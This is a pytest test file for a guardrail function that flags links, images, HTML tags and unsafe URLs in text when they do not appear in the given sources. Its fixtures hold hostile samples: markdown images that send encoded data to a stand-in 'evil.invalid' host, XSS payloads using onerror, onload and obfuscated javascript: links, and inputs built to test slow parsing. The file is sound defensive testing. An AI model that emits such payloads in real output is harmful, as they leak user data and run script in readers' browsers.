import pytest

from guardrails.links import unknown

SOURCES = [
    "See https://docs.invalid/scaling?a=1 and ![logo](img/logo.png), or <a\nhref='https://docs.invalid/x'>x</a>.",
    "A <script> may be a data:text/plain,x one. [run](javascript:run())",
]


@pytest.mark.parametrize(
    "text",
    [
        "![logo](img/logo.png) [d](https://docs.invalid/scaling?a=1).",
        "Go to https://docs.invalid/scaling, (https://docs.invalid/x).",
        "<a href='https://docs.invalid/x'>x</a>",
        "The <script> tag, <source> or <a number>; if i <a and b == 2: x[0](y)",
        "Great![1] Numbers [1, 2] in (0, 1]. [note]: this is one. [a](#part)",
        "![x](https://do",
    ],
)
def test_what_a_source_holds_or_leads_nowhere_is_left_alone(text: str) -> None:
    assert unknown(text, 0, SOURCES) == set()


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("![x](https://evil.invalid/p.png?d=aGVsbG8)", "image"),
        ("![x](https://docs.invalid/scaling?a=1&d=aGVsbG8)", "image"),
        ("![x](<https://docs.invalid/scaling?a=1 aGVsbG8>)", "image"),
        ("![a \\[ b](//evil.invalid/)", "image"),
        ("![`[`](//evil.invalid/)", "image"),
        ("an alternative text that began long before](//evil.invalid/)", "image"),
        ("![x][y]\n\n[y]: //evil.invalid/", "reference"),
        ("> - [y]: <https:&#47;/evil.invalid/>", "reference"),
        ("<img src=//evil.invalid/>", "tag"),
        ("<IMG alt='<' src=x onerror=run()>", "tag"),
        ("<svg/onload=run()>", "tag"),
        ("<script>run()</script>", "tag"),
        ("<iframe src='https://docs.invalid/x'>", "tag"),
        ("[run](javascript:run())", "unsafe"),
        ("[run](java&#115;cript\\:run())", "unsafe"),
        ("![x](data:text/plain,x)", "unsafe"),
        ("<javascript:run()>", "unsafe"),
    ],
)
def test_what_is_fetched_or_run_must_stand_in_a_source(text: str, kind: str) -> None:
    assert kind in unknown(text, 0, SOURCES)
    assert kind in unknown(text, len(text) - 4, SOURCES)
    assert unknown(text, len(text), SOURCES) == set()


@pytest.mark.parametrize(
    "text",
    ["[Click here](https://evil.invalid/login)", "Great![1] See [x](/y) [z](https://a.invalid)", "https://a.invalid"],
)
def test_a_plain_link_is_told_as_such(text: str) -> None:
    assert unknown(text, 0, SOURCES) == {"link"}


@pytest.mark.parametrize(
    "part", ["![", "](a(", "](x(y", '<a "', "<a '\"", "[a]: //b ", "</script", "http://", "\\", "<img ="]
)
def test_hostile_texts_are_read_in_bounded_time(part: str) -> None:
    unknown(part * 20_000, 0, SOURCES)
